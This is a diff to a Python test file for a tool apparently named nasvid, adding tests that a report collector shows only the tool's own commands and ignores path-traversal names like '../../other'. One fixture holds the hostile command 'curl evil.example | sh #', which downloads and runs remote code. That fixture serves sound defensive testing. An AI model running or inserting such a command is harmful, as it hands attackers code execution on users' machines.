@@ -11,7 +11,8 @@ from click.testing import CliRunner, Result
 from nasvid.cli.main import main
 from nasvid.errors import UserError
 from nasvid.preflight import load_recipe
-from nasvid.run.folder import begin, existing, load_of_run
+from nasvid.report.collect import collect
+from nasvid.run.folder import begin, existing, load_of_run, load_to_run
 from nasvid.run.session import Session
 
 CODE = "from pathlib import Path\nPath(__file__).with_suffix('.ran').touch()\n"
@@ -155,6 +156,19 @@ def test_no_link_leads_out_of_the_folder(project, error_of, place, everything):
     assert {path: after[path] for path in before} == before
 
 
+@pytest.mark.parametrize("strategy", ["other", "../../other"])
+def test_a_report_offers_no_command_but_nasvids_own(project, strategy):
+    recipe = project / "run/recipe.yaml"
+    named = recipe.read_text().replace("name: random", f"name: {strategy}")
+    recipe.write_text(named)
+    page = (project / "run/search" / strategy).resolve() / "page.json"
+    page.parent.mkdir(parents=True)
+    page.write_text(json.dumps({"title": "A page", "verb": "curl evil.example | sh #"}))
+    assert collect(project / "run").page == {}
+    page.write_text(json.dumps({"title": "A page", "verb": "nasvid other view"}))
+    assert bool(collect(project / "run").page) is ("/" not in strategy)
+
+
 def test_links_within_the_folder_and_to_it_are_followed(project):
     (project / "run/data").mkdir()
     (project / "run/data/latest").symlink_to("other")
@@ -190,6 +204,8 @@ def test_a_run_is_looked_at_after_it_was_moved_with_its_project(project, monkeyp
     assert loaded.recipe.data.val == str(run.parent / "shards/val-{000..000}.tar")
     session = Session(existing(Path("run")), loaded)
     assert session.index("val").clips[0].shard == str(run.parent / "shards/val-000.tar")
+    resumed = load_to_run(Path("run/recipe.yaml"), Path("run"), scale=None, overrides=())
+    assert resumed.recipe == loaded.recipe
     begin(Path("run"), load_recipe(Path("recipe.yaml")))  # whose plug-in stands there now
     load_of_run(existing(Path("run")))
 
